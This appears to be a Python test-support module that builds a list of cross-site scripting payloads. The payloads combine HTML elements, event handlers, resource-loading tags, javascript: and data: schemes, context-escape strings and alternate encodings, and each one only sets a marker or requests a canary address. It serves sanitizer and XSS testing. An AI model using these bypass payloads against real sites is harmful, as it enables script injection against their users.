"""Markup that tries to run: made from elements, events, encodings, schemes and ways out of a context. Pure.

Whatever runs sets `window.ran` or asks the canary for something; whatever is loaded asks the canary too.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from html import escape
from itertools import cycle, islice, product
from urllib.parse import quote

ELEMENTS = (
    "<img src=x {event}={code}>",
    "<svg {event}={code}>",
    "<svg><animate attributeName=x dur=1s {event}={code}></svg>",
    "<body {event}={code}>",
    "<details open {event}={code}>x</details>",
    "<input autofocus {event}={code}>",
    "<video src=x {event}={code}></video>",
    "<iframe {event}={code}></iframe>",
    "<marquee {event}={code}>x</marquee>",
    "<custom-x tabindex=1 id=x {event}={code}>x</custom-x>",
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onstart", "onmouseover", "onanimationstart")
LOADING = (
    "<script src={canary}></script>",
    "<img src={canary}>",
    "<link rel=stylesheet href={canary}>",
    "<link rel=prefetch href={canary}>",
    "<iframe src={canary}></iframe>",
    "<object data={canary}></object>",
    "<embed src={canary}>",
    "<audio autoplay src={canary}></audio>",
    "<style>@import '{canary}';</style>",
    "<style>*{{background:url({canary})}}</style>",
    "<div style=\"background:url('{canary}')\">x</div>",
    "<meta http-equiv=refresh content='0;url={canary}'>",
    "<base href={canary}>",
    "<form action={canary}><button autofocus>x</button></form>",
    "<svg><use href='{canary}#x'/></svg>",
    "<svg><image href={canary} /></svg>",
    "<div hx-get={canary} hx-trigger=load>x</div>",
    "<div hx-sse:connect={canary} hx-trigger=load>x</div>",
    "<hx-partial hx-target='body'><img src={canary}></hx-partial>",
    "<div hx-on:htmx:load={code}>x</div>",
    "<script>{code}</script>",
    "<svg><script>{code}</script></svg>",
    "<math><mtext><script>{code}</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'>",
)
# How an attacker leaves the place at which the text stands.
OUT = ("", '">', "'>", "</td></tr></table>", "</title>", "</script>", "--> ", "]]>", "</textarea>", "\r\n\r\ndata: ")
SCHEMES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    " java\tscript:{code}",
    "java\nscript:{code}",
    "\x01javascript:{code}",
    "javascript&colon;{code}",
    "javascript://example.com/%0a{code}",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,{coded}",
    "vbscript:{code}",
    "//{host}/x",
    "https:/\\{host}/x",
)


def payloads(count: int, canary: str) -> list[str]:
    """So many different ones, the same for the same canary (an address such as http://127.0.0.1:9)."""
    return list(islice(_unique(canary), count))


def _unique(canary: str) -> Iterator[str]:
    seen = set[str]()
    for number, template in enumerate(_in_turn()):
        text = _filled(template, number, canary)
        for variant in _encoded(text, number):
            if variant not in seen:
                seen.add(variant)
                yield variant


def _in_turn() -> Iterator[str]:
    """Every element with every event out of every context, between them what loads by itself and what is an address."""
    others = cycle((*LOADING, *SCHEMES))
    ways = cycle(OUT)
    for element, event, way in product(ELEMENTS, EVENTS, OUT):
        yield way + element.replace("{event}", event)
        yield next(ways) + next(others)


def _filled(template: str, number: int, canary: str) -> str:
    code = f"window.ran={number + 1};fetch('{canary}/{number}')".replace(" ", "")
    coded = base64.b64encode(f"<script>{code}</script>".encode()).decode()
    slots = {"{code}": code, "{canary}": f"{canary}/{number}", "{coded}": coded, "{host}": canary.partition("//")[2]}
    for slot, value in slots.items():
        template = template.replace(slot, value)
    return template.replace("{{", "{").replace("}}", "}")


def _encoded(text: str, number: int) -> Iterator[str]:
    """The payload, and every few of them in another writing as well."""
    yield text
    if number % 7 == 0:
        yield escape(text)
    elif number % 7 == 2:
        yield quote(text)
    elif number % 7 == 4:
        yield "".join(f"&#{ord(letter)};" for letter in text[:60]) + text[60:]
    elif number % 7 == 6:
        yield text.replace("<", "\uff1c")  # full width: becomes "<" where somebody normalises
